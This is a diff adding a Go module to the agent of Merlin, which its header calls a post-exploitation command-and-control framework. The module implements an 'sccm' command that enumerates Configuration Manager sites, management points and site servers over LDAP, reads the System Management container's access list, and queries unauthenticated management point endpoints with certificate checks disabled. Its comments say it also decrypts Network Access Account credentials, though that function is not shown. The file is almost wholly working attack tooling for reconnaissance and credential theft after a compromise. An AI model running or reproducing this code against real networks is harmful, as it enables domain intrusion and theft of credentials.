@@ -0,0 +1,221 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"crypto/tls"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"net/http"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// mpList is the management point list returned by the MPLIST request
+type mpList struct {
+	MPs []struct {
+		Name    string `xml:"Name,attr"`
+		FQDN    string `xml:"FQDN,attr"`
+		Version string `xml:"Version"`
+		SSL     []struct {
+			Name  string `xml:"Name,attr"`
+			Value string `xml:"Value,attr"`
+		} `xml:"Capabilities>Property"`
+	} `xml:"MP"`
+}
+
+// mpKeyInformation is the site information returned by the MPKEYINFORMATION request
+type mpKeyInformation struct {
+	Name     string `xml:"NAME"`
+	FQDN     string `xml:"FQDN"`
+	SiteCode string `xml:"SITECODE"`
+	Site     string `xml:"SITEDETAIL>SITE"`
+}
+
+// SCCM finds Configuration Manager sites, management points, and site servers in the domain over LDAP, queries a
+// management point's unauthenticated site information, and recovers the Network Access Account credentials from the
+// local Configuration Manager client's WMI repository. Site servers are found from the computer accounts with full
+// control of the System Management container. The Network Access Account is only available on Windows and the
+// credentials are only decrypted when the agent is running as SYSTEM
+// sccm find <dc> <domain> <user> <password>
+// sccm mp <management point>
+// sccm naa
+func SCCM(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering SCCM() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the sccm command"
+		return
+	}
+
+	var findings []FindingRecord
+	var err error
+	switch strings.ToLower(cmd.Args[0]) {
+	case "find":
+		if len(cmd.Args) < 5 {
+			results.Stderr = fmt.Sprintf("expected 5 arguments for the sccm find command, received %d", len(cmd.Args))
+			return
+		}
+		findings, err = findSCCM(cmd.Args[1], cmd.Args[2], cmd.Args[3], cmd.Args[4])
+	case "mp":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the sccm mp command requires a management point"
+			return
+		}
+		findings, err = managementPoint(cmd.Args[1])
+	case "naa":
+		findings, err = networkAccessAccounts()
+	default:
+		results.Stderr = fmt.Sprintf("unknown sccm command: %s", cmd.Args[0])
+		return
+	}
+	if err != nil {
+		results.Stderr = err.Error()
+		if len(findings) == 0 {
+			return
+		}
+	}
+	if len(findings) == 0 {
+		results.Stdout = "there were no Configuration Manager findings"
+		return
+	}
+	results.Stdout = findingsText(findings)
+	structured = newStructured("sccm", findings)
+	return
+}
+
+// findSCCM searches the domain for Configuration Manager sites, management points, and site servers
+func findSCCM(dc, domain, user, password string) (findings []FindingRecord, err error) {
+	conn, err := ldapLogin(dc, domain, user, password, adReconTimeout)
+	if err != nil {
+		return
+	}
+	defer conn.Close()
+	base := domainDN(domain)
+
+	sites, err := conn.search(base, ldapEquals("objectClass", "mSSMSSite"), []string{"mSSMSSiteCode", "cn"})
+	if err != nil {
+		return nil, fmt.Errorf("there was an error searching for sites: %s", err)
+	}
+	for _, site := range sites {
+		findings = append(findings, FindingRecord{Category: "Site", Name: site.get("mSSMSSiteCode"), Value: site.DN})
+	}
+	mps, err := conn.search(base, ldapEquals("objectClass", "mSSMSManagementPoint"), []string{"dNSHostName", "mSSMSSiteCode", "mSSMSDefaultMP"})
+	if err != nil {
+		return findings, fmt.Errorf("there was an error searching for management points: %s", err)
+	}
+	for _, mp := range mps {
+		value := "site " + mp.get("mSSMSSiteCode")
+		if strings.EqualFold(mp.get("mSSMSDefaultMP"), "TRUE") {
+			value += ", default management point"
+		}
+		findings = append(findings, FindingRecord{Category: "Management Point", Name: mp.get("dNSHostName"), Value: value})
+	}
+
+	// Site servers are granted full control of the System Management container when the schema is extended
+	container, err := conn.search("CN=System Management,CN=System,"+base, ldapEquals("objectClass", "container"), []string{"nTSecurityDescriptor"}, sdFlagsControl)
+	if err != nil || len(container) == 0 {
+		if len(findings) == 0 {
+			return nil, fmt.Errorf("there is no System Management container, Configuration Manager is not published to %s", domain)
+		}
+		return findings, nil
+	}
+	dacl, err := parseDACL([]byte(container[0].get("nTSecurityDescriptor")))
+	if err != nil {
+		return findings, fmt.Errorf("there was an error parsing the System Management security descriptor: %s", err)
+	}
+	var sids []string
+	for _, entry := range dacl {
+		rights := entry.rights()
+		if len(rights) > 0 && (rights[0] == "GenericAll" || rights[0] == "FullControl") && !privilegedSID(entry.SID) {
+			sids = append(sids, entry.SID)
+		}
+	}
+	names := resolveSIDs(conn, domain, sids)
+	for _, sid := range sids {
+		value := "full control of the System Management container"
+		if strings.HasSuffix(names[sid], "$") {
+			value = "computer with " + value
+		}
+		findings = append(findings, FindingRecord{Category: "Site Server", Name: fmt.Sprintf("%s (%s)", names[sid], sid), Value: value})
+	}
+	return findings, nil
+}
+
+// managementPoint requests the unauthenticated management point list and site information from a management point
+func managementPoint(host string) (findings []FindingRecord, err error) {
+	base := host
+	if !strings.Contains(base, "://") {
+		base = "http://" + base
+	}
+	client := &http.Client{
+		Timeout: adReconTimeout,
+		// G402: TLS InsecureSkipVerify set true. (Confidence: HIGH, Severity: HIGH) The site's PKI is not trusted by the agent
+		Transport: &http.Transport{Proxy: nil, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}, // #nosec G402
+	}
+	get := func(query string) ([]byte, error) {
+		resp, err := client.Get(strings.TrimRight(base, "/") + "/SMS_MP/.sms_aut?" + query)
+		if err != nil {
+			return nil, fmt.Errorf("there was an error requesting %s from %s: %s", query, host, err)
+		}
+		defer resp.Body.Close()
+		body, err := io.ReadAll(io.LimitReader(resp.Body, 1024*1024))
+		if err != nil {
+			return nil, fmt.Errorf("there was an error reading the %s response from %s: %s", query, host, err)
+		}
+		if resp.StatusCode != http.StatusOK {
+			return nil, fmt.Errorf("the %s request to %s returned %s", query, host, resp.Status)
+		}
+		return body, nil
+	}
+
+	body, err := get("MPLIST")
+	if err != nil {
+		return
+	}
+	var list mpList
+	if err = xml.Unmarshal(body, &list); err != nil {
+		return nil, fmt.Errorf("there was an error parsing the management point list from %s: %s", host, err)
+	}
+	for _, mp := range list.MPs {
+		value := "version " + mp.Version
+		for _, p := range mp.SSL {
+			if p.Name == "SSLState" {
+				value += ", SSL state " + p.Value
+			}
+		}
+		findings = append(findings, FindingRecord{Category: "Management Point", Name: mp.FQDN, Value: value})
+	}
+	if body, err = get("MPKEYINFORMATION"); err != nil {
+		return findings, err
+	}
+	var key mpKeyInformation
+	if err = xml.Unmarshal(body, &key); err != nil {
+		return findings, fmt.Errorf("there was an error parsing the site information from %s: %s", host, err)
+	}
+	findings = append(findings, FindingRecord{Category: "Site", Name: key.SiteCode, Value: fmt.Sprintf("%s %s", key.FQDN, key.Site)})
+	return findings, nil
+}